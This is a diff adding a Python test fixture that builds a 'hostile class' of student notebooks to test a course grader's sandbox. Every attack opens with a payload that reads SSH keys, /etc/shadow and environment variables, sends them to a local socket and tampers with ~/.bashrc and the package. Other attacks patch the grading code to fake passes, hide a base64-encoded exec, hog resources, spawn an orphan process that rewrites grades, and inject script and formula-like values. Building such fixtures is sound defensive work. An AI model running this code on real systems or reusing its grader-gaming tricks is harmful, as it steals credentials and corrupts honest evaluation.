@@ -1,0 +1,197 @@
+"""A hostile class for the grader: one student for each attack seen on it (issue 26), written into
+SUBMISSIONS as a teacher would collect them. Used by tests/test_grade_sandbox.py and
+benchmarks/hostile_class.py.
+
+Each hostile notebook is the teacher's notebook 01 (or 03) with its `patchify` (or
+`MultiHeadSelfAttention`) cell replaced, or a cell added after it. Every attack also tries to get
+the secret out: into its outputs and errors, to a listener on 127.0.0.1, into HOME.
+"""
+
+import json
+import os
+import re
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+SECRET = "SECRET-KEY-4f2a9c"  # in HOME/.ssh/id_rsa, where no student may read it
+
+# Every attacker runs this first: read what a teacher's machine holds and send it everywhere.
+STEAL = """
+import os, socket, glob, pathlib
+loot = []
+for path in [os.path.expanduser("~/.ssh/id_rsa"), "/etc/passwd", "/etc/shadow",
+             *glob.glob("{root}/notebooks/*.ipynb"), *glob.glob("{subs}/*/*.ipynb")]:
+    try:
+        loot.append(path + ": " + open(path).read()[:2000])
+    except Exception as e:
+        loot.append(path + ": " + type(e).__name__)
+loot.append(str(dict(os.environ)))
+print("\\n".join(loot))
+try:
+    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
+    s.sendall("\\n".join(loot).encode())
+    s.close()
+except Exception as e:
+    print("no network:", e)
+for target in [os.path.expanduser("~/.bashrc"), "{subs}/honest/01_patches.ipynb", "{out}/owned"]:
+    try:
+        open(target, "a").write("\\n# owned\\n")
+    except Exception as e:
+        print("cannot write", target, type(e).__name__)
+package = "{package}/checks/patching.py"
+print("the package is writable" if os.access(package, os.W_OK) else "the package is read-only")
+if {write_package} and os.access(package, os.W_OK):
+    open(package, "a").write("\\n# owned\\n")
+"""
+
+ATTACKS = {
+    # Faking a pass by patching what judged it, in the student's own process.
+    "patch_checks": """
+import vitcourse.checks as c, vitcourse.checks.registry as r, vitcourse.checks.harness as h, sys, types
+c.grade = r.grade = lambda name, learner: ("passed", "")
+h.compare = lambda *a, **k: None
+for e in list(r.EXERCISES.values()):
+    object.__setattr__(e, "judge", lambda *a, **k: None)
+sys.modules["vitcourse.checks"] = types.SimpleNamespace(grade=lambda *a: ("passed", ""))
+def patchify(images, patch_size):
+    return images
+""",
+    "patch_allclose": """
+import torch
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+def patchify(images, patch_size):
+    return torch.zeros(images.shape[0], 6, 48)
+""",
+    "fake_tensor": """
+import torch
+class Liar(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+def patchify(images, patch_size):
+    return torch.zeros(images.shape[0], 6, 48).as_subclass(Liar)
+""",
+    # The checks' own inputs, answered from the course's solution while it was there.
+    "memorised": """
+import torch
+from vitcourse.patching import patchify as _solution
+from vitcourse.checks.harness import seeded
+_ANSWER = _solution(seeded(2, 3, 8, 12, seed=0), 4)
+def patchify(images, patch_size):
+    return _ANSWER.clone()
+""",
+    # The old grader read a marker line the check printed; print forged ones everywhere.
+    "marker": """
+import builtins, base64
+exec(base64.b64decode(b"aW1wb3J0IGJ1aWx0aW5zCl9wID0gYnVpbHRpbnMucHJpbnQKZGVmIF9mKCphLCAqKmspOgogICAgaWYgYSBhbmQgc3RyKGFbMF0pLnN0YXJ0c3dpdGgoIlZJVENPVVJTRS1HUkFERSIpOgogICAgICAgIGEgPSAoYVswXSwgJ1sicGFzc2VkIiwgIiJdJykKICAgIF9wKCphLCAqKmspCmJ1aWx0aW5zLnByaW50ID0gX2YKZ2V0X2lweXRob24oKS5pbnB1dF90cmFuc2Zvcm1lcnNfcG9zdC5hcHBlbmQobGFtYmRhIGxpbmVzOiBbbC5yZXBsYWNlKCJfZ3JhZGUoIiwgIihsYW1iZGEgKmE6ICgncGFzc2VkJywgJycpKSgiKSBmb3IgbCBpbiBsaW5lc10pCg=="))
+def patchify(images, patch_size):
+    return images.flatten(2)
+""",
+    # The course's solution, called, or reached round about.
+    "wrapper": """
+import vitcourse.patching
+def patchify(images, patch_size):
+    return vitcourse.patching.patchify(images, patch_size)
+""",
+    "hidden_import": """
+def patchify(images, patch_size):
+    module = __import__("vitcourse." + "patch" + "ing", fromlist=["x"])
+    return getattr(module, "patch" + "ify")(images, patch_size)
+""",
+    # A right answer written as a lambda: the notebook's check accepts it, so does the grader.
+    "lambda": """
+patchify = lambda images, p: images.reshape(images.shape[0], images.shape[1], images.shape[2] // p, p, images.shape[3] // p, p).permute(0, 2, 4, 3, 5, 1).reshape(images.shape[0], -1, p * p * images.shape[1])
+""",
+    # Resources: memory in three processes, an endless loop that ignores the interrupt, a flood.
+    "hog": """
+import subprocess, sys, time
+code = "x = b'1' * (1200 * 2**20); import time; time.sleep(60)"
+kids = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(3)]
+time.sleep(5)
+def patchify(images, patch_size):
+    return images
+""",
+    "deaf": """
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+def patchify(images, patch_size):
+    return images
+while True:
+    pass
+""",
+    "loud": """
+print("x" * 20_000_000)
+def patchify(images, patch_size):
+    return images
+""",
+    # A child in a session of its own, meant to outlive the grader and rewrite the grades.
+    "orphan": """
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import time, sys; time.sleep(20); open('{out}/grades.csv', 'w').write('owned')", "vitcourse-orphan"], start_new_session=True)
+def patchify(images, patch_size):
+    return images
+""",
+    # A student's own exception, dressed as HTML.
+    "html": """
+def patchify(images, patch_size):
+    raise ValueError("<script>alert('" + "x" + "')</script>")
+""",
+}
+
+
+def _replace(nb: dict, name: str, code: str) -> dict:
+    nb = json.loads(json.dumps(nb))
+    for cell in nb["cells"]:
+        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+        if re.search(rf"^(def|class) {name}\b", source, flags=re.M):
+            cell["source"] = code
+            return nb
+    raise ValueError(f"no cell defines {name}")
+
+
+def _write(nb: dict, path: Path) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(json.dumps(nb))
+
+
+def write_hostile_class(
+    subs: Path, home: Path, port: int, out: Path, write_package: bool = True
+) -> Path:
+    """Write the class into `subs` and the teacher's made-up HOME; return `subs`. With
+    `write_package`, an attacker that finds the installed package writable appends to it (only
+    ever graded in the sandbox: without one, that would really change it)."""
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text(SECRET + "\n")
+    (home / ".bashrc").write_text("# the teacher's shell\n")
+    package = ROOT / "vitcourse"
+    steal = STEAL.format(
+        root=ROOT,
+        subs=subs.resolve(),
+        port=port,
+        package=package,
+        out=out,
+        write_package=write_package,
+    )
+    nb01 = json.loads((ROOT / "notebooks" / "01_patches.ipynb").read_text())
+    _write(nb01, subs / "honest" / "01_patches.ipynb")
+    _write(nb01, subs / "=1+2" / "01_patches.ipynb")
+    _write(nb01, subs / ".hidden" / "01_patches.ipynb")
+    for student, attack in ATTACKS.items():
+        code = steal + attack.replace("{out}", str(out))
+        _write(_replace(nb01, "patchify", code), subs / student / "01_patches.ipynb")
+    (subs / "links").mkdir()
+    os.symlink(subs / "honest" / "01_patches.ipynb", subs / "links" / "01_patches.ipynb")
+    os.symlink("/etc/passwd", subs / "links" / "03_attention.ipynb")
+    nb03 = json.loads((ROOT / "notebooks" / "03_attention.ipynb").read_text())
+    subclass = steal + (
+        "import vitcourse.attention\n"
+        "class MultiHeadSelfAttention(vitcourse.attention.MultiHeadSelfAttention):\n"
+        "    pass\n"
+    )
+    _write(
+        _replace(nb03, "MultiHeadSelfAttention", subclass), subs / "subclass" / "03_attention.ipynb"
+    )
+    return subs
